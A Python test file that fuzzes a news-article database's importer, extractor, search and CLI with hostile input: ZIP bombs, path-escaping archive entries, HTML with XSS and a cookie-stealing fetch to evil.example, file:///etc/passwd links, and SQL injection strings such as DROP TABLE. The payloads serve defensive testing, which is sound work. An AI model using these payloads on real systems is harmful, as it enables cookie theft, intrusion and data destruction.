"""Hostile input: fuzzed import files and extractor text, ZIP bombs and
escaping paths, HTML with active content, and injection attempts through
search, filters and CLI arguments.  Every case ends in a reported error or a
clean import: no crash, no file written outside the database, no network."""
from __future__ import annotations

import hashlib
import io
import json
import os
import socket
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select, text

from models import Base
from storage.db import Database
from storage.importer import import_paths
from storage.readers import Failure, Record, read_bytes, read_zip

FUZZ = settings(max_examples=40, deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture,
                                       HealthCheck.too_slow])
CASES = {"n": 0}


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    """Any attempt to open a Python socket to anywhere fails the test."""
    def refuse(*a, **k):
        pytest.fail(f"network access attempted: {a!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


@pytest.fixture(scope="module")
def fuzz_db(tmp_path_factory):
    folder = tmp_path_factory.mktemp("fuzzdb")
    db = Database.open(folder / "isnad.sqlite3")
    yield db
    db.dispose()


def _tree(root: Path) -> dict[str, int]:
    return {str(p.relative_to(root)): p.stat().st_size for p in root.rglob("*")}


def _import_one(db: Database, tmp: Path, name: str, data: bytes, extract: bool = False):
    inbox = tmp / "inbox"
    inbox.mkdir(exist_ok=True)
    f = inbox / name
    f.write_bytes(data)
    watched = tmp.parent
    before = _tree(watched)
    report = import_paths(db, [f], extract=extract)
    after = _tree(watched)
    new = set(after) - set(before)
    dbdir = db.sqlite_path.parent.name
    assert not [p for p in new if not p.startswith(dbdir)], f"files written: {new}"
    f.unlink()
    CASES["n"] += 1
    assert report.imported + report.duplicates + len(report.failed) >= 0
    for fail in report.failed:
        assert isinstance(fail.error, str) and fail.error
    return report


# -- random bytes and structure ---------------------------------------------------

@FUZZ
@given(data=st.binary(max_size=4000),
       suffix=st.sampled_from([".txt", ".json", ".jsonl", ".csv", ".zip", ".html"]))
def test_random_bytes_as_any_file_type(fuzz_db, tmp_path, data, suffix):
    _import_one(fuzz_db, tmp_path, "f" + suffix, data)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | st.text(max_size=40),
    lambda kids: st.lists(kids, max_size=5) | st.dictionaries(
        st.sampled_from(["content", "text", "body", "title", "url", "date", "source", "x"]),
        kids, max_size=6),
    max_leaves=30)


@FUZZ
@given(value=json_values)
def test_random_json_structures(fuzz_db, tmp_path, value):
    rep = _import_one(fuzz_db, tmp_path, "r.json",
                      json.dumps(value, ensure_ascii=False).encode())
    assert rep.imported + rep.duplicates + len(rep.failed) >= (1 if isinstance(value, dict)
                                                               else 0)


@FUZZ
@given(rows=st.lists(st.lists(st.text(alphabet='ab",\n\r\\ خبر\x00', max_size=12),
                              min_size=1, max_size=4), max_size=8),
       header=st.sampled_from(["content,title", "text", "body,url,date", "x,y", '"content']))
def test_csv_with_broken_quoting(fuzz_db, tmp_path, rows, header):
    body = header + "\n" + "\n".join(",".join(r) for r in rows)
    _import_one(fuzz_db, tmp_path, "c.csv", body.encode("utf-8"))


@pytest.mark.parametrize("name, data", [
    ("deep.json", b"[" * 200_000 + b"]" * 200_000),
    ("deepobj.json", b'{"a":' * 50_000 + b"1" + b"}" * 50_000),
    ("deep.jsonl", b'{"content": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n"),
    ("huge_line.txt", ("قال الوزير إن " * 400_000).encode()),
    ("huge_field.csv", b"content\n\"" + b"x" * 3_000_000 + b"\"\n"),
    ("unterminated.csv", b'content,title\n"never closed,t\n'),
    ("nul.csv", b"content\nab\x00cd\n"),
    ("bom_utf16.txt", "قال المتحدث".encode("utf-16")),
    ("empty.json", b""),
    ("latin1.txt", "café à la crème".encode("latin-1")),
])
def test_pathological_files(fuzz_db, tmp_path, name, data):
    _import_one(fuzz_db, tmp_path, name, data)


# -- ZIP archives -------------------------------------------------------------------

def _zip(members: dict[str, bytes], method=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _lying_zip(declared: int, actual: bytes) -> bytes:
    """One member whose headers declare ``declared`` bytes but hold more."""
    raw = bytearray(_zip({"a.txt": actual}))
    real = len(actual).to_bytes(4, "little")
    fake = declared.to_bytes(4, "little")
    assert raw.count(real) >= 2
    return bytes(raw.replace(real, fake))


def test_zip_bomb_and_escaping_entries_are_refused(fuzz_db, tmp_path):
    bomb = _zip({"bomb.txt": b"\0" * (60 * 1024 * 1024)})  # ~60 MB of zeros in ~60 KB
    assert len(bomb) < 200_000
    fails = [f.error for f in read_zip(bomb, "bomb.zip", "bomb.zip") if isinstance(f, Failure)]
    assert fails == ["ZIP member is a compression bomb"]
    liar = _lying_zip(100, "قال الوزير ".encode() * 20_000)
    out = list(read_zip(liar, "liar.zip", "liar.zip"))
    assert all(isinstance(x, Failure) for x in out) and out
    evil = _zip({"../../evil.txt": "قال".encode(), "/abs/evil.txt": b"x",
                 "C:/win/evil.txt": b"x", "ok/../../evil.txt": b"x", "good.txt": "خبر جيد".encode(),
                 "inner.zip": _zip({"a.txt": b"x"})})
    rep = _import_one(fuzz_db, tmp_path, "evil.zip", evil)
    errors = sorted(f.error for f in rep.failed)
    assert errors.count("ZIP entry escapes its folder") == 4
    assert "nested ZIP files are not imported" in errors
    for root in (tmp_path, tmp_path.parent, Path.cwd()):
        assert not list(root.rglob("evil.txt"))
    for data in (bomb, liar):
        _import_one(fuzz_db, tmp_path, "z.zip", data)


@FUZZ
@given(names=st.lists(st.text(alphabet="./\\:a_ب", min_size=1, max_size=12), min_size=1,
                      max_size=5),
       payload=st.binary(max_size=300))
def test_random_zip_member_names(fuzz_db, tmp_path, names, payload):
    members = {n + ".txt": payload for n in names}
    _import_one(fuzz_db, tmp_path, "n.zip", _zip(members))


# -- HTML with active content -----------------------------------------------------

HOSTILE_HTML = """<!doctype html><html><head><title>خبر</title>
<script>fetch('http://evil.example/steal?c='+document.cookie); alert('xss')</script>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<link rel="stylesheet" href="http://evil.example/s.css"></head><body>
<iframe src="http://evil.example/frame"></iframe>
<img src="http://evil.example/pixel.png" onerror="alert(1)">
<img src="file:///etc/passwd"><a href="file:///etc/shadow">ملف</a>
<object data="http://evil.example/x.swf"></object>
<article><p>قال المتحدث العسكري إن القوات استعادت السيطرة على ثلاث قرى في المنطقة الشمالية.</p>
<p>وأضاف أن العمليات مستمرة حتى تطهير المنطقة بالكامل من بقايا المسلحين.</p>
<p onclick="alert(2)">وأكد أن المدنيين في أمان.</p></article>
<svg><script>alert(3)</script></svg></body></html>"""


def test_html_with_scripts_iframes_remote_images_and_file_links(fuzz_db, tmp_path):
    out = list(read_bytes(HOSTILE_HTML.encode(), ".html", "h.html", "h.html"))
    assert len(out) == 1 and isinstance(out[0], Record)
    body = out[0].body
    assert "استعادت السيطرة" in body
    for bad in ("alert", "fetch(", "evil.example", "/etc/passwd", "onerror", "<script"):
        assert bad not in body
    _import_one(fuzz_db, tmp_path, "h.html", HOSTILE_HTML.encode(), extract=True)


@FUZZ
@given(parts=st.lists(st.sampled_from([
    "<script>alert(1)</script>", "<iframe src='http://x.example'>", "<img src=http://x/y.png>",
    "<a href='file:///etc/passwd'>", "<p>", "</p>", "قال الوزير إن ", "الأسعار ارتفعت ",
    "<div", "<!--", "-->", "<![CDATA[", "&#0;", "&amp;", "<base href='http://x/'>",
    "<style>@import url(http://x/)</style>", "\x00", "<svg onload=alert(1)>"]), max_size=30))
def test_random_html_soup(fuzz_db, tmp_path, parts):
    _import_one(fuzz_db, tmp_path, "s.html", "".join(parts).encode())


# -- the extractor's public API ---------------------------------------------------

ARABIC_PIECES = list("ابتثجحخدذرزسشصضطظعغفقكلمنهويءآأإؤئىة ًٌٍَُِّْـ«»\"'.,،؛:؟!()\n0123456789٠١٢٣") + [
    "قال ", "أكد ", "وأضاف ", "إن ", "الوزير ", "مصدر ", "😀", "\u200f", "\u202b"]
ARABIC = st.lists(st.sampled_from(ARABIC_PIECES), max_size=200).map("".join)


@FUZZ
@given(body=ARABIC)
def test_extractor_never_crashes_and_spans_are_valid(body):
    from analysis.extract import analyze

    res = analyze(body)
    CASES["n"] += 1
    for c in getattr(res, "claims", []):
        assert 0 <= c.start <= c.end <= len(body)
        assert body[c.start:c.end] == c.text


# -- injection through search, filters, entity names and CLI arguments ----------

ATTACKS = ["'; DROP TABLE articles; --", "\" OR 1=1 --", "x') OR ('1'='1", "1; DELETE FROM claims",
           "NEAR(a b)", "title:*", "* OR *", "^قال", "\"unterminated", "a AND NOT b",
           "%' UNION SELECT body FROM articles --", "\\x00", "\x00", "$$; DROP TABLE claims; $$",
           "') ; UPDATE claims SET status='confirmed' ; --", ":param", "?", "{}", "قال' --"]


def _checksum(db: Database) -> str:
    h = hashlib.sha256()
    with db.engine.connect() as conn:
        for name, table in sorted(Base.metadata.tables.items()):
            rows = conn.execute(select(table).order_by(*table.primary_key.columns)).all()
            h.update(f"{name}:{len(rows)}:{rows!r}".encode())
        for t in ("search_articles", "search_claims"):
            h.update(str(conn.execute(text(f"SELECT count(*) FROM {t}")).scalar()).encode())
    return h.hexdigest()


def test_injection_attempts_change_nothing(db, capsys):
    from cli.main import run
    from storage import queries, services
    from storage.search import search

    with db.session() as s:
        from models import Article

        a = Article(title="خبر", body="قال الوزير إن الأسعار ارتفعت", content_hash="i1",
                    boilerplate=[])
        s.add(a)
        s.flush()
        from storage.search import index_articles

        index_articles(s.connection(), [(a.id, a.title, a.body)])
        cid = services.create_claim(s, a.id, 0, 9, "huda").id
    before = _checksum(db)
    url = db.url.render_as_string(hide_password=False)
    from sqlalchemy.exc import DataError

    def attempt(fn, *a, **k):
        try:
            with db.session() as s:
                return fn(s, *a, **k)
        except DataError:
            # PostgreSQL refuses NUL in text parameters: a reported error, not a change
            assert "\x00" in attack and db.dialect == "postgresql"
            return None

    for attack in ATTACKS:
        attempt(search, attack)
        assert attempt(queries.claims_json, status=attack) in ([], None)
        attempt(queries.article_ids, status=attack, order=attack)
        with pytest.raises((services.ServiceError, DataError)):
            with db.session() as s:
                services.entity_by_name(s, attack, create=False)
        assert run(["--db", url, "search", attack, "--json"]) == 0
        assert run(["--db", url, "claims", "--json", "--status", attack]) == 2
        assert run(["--db", url, "review", attack, "--status", "confirmed"]) == 2
        CASES["n"] += 7
    capsys.readouterr()
    assert _checksum(db) == before
    # a hostile speaker name is stored literally, and changes nothing else
    with db.session() as s:
        services.review_claim(s, cid, "huda", speaker=ATTACKS[0])
        assert s.get(__import__("models").Claim, cid).speaker_entity.name == ATTACKS[0]
        assert s.scalar(select(func.count()).select_from(__import__("models").Article)) == 1


def test_zzz_report_fuzz_figures():
    print(f"\nfuzz cases run: {CASES['n']}")
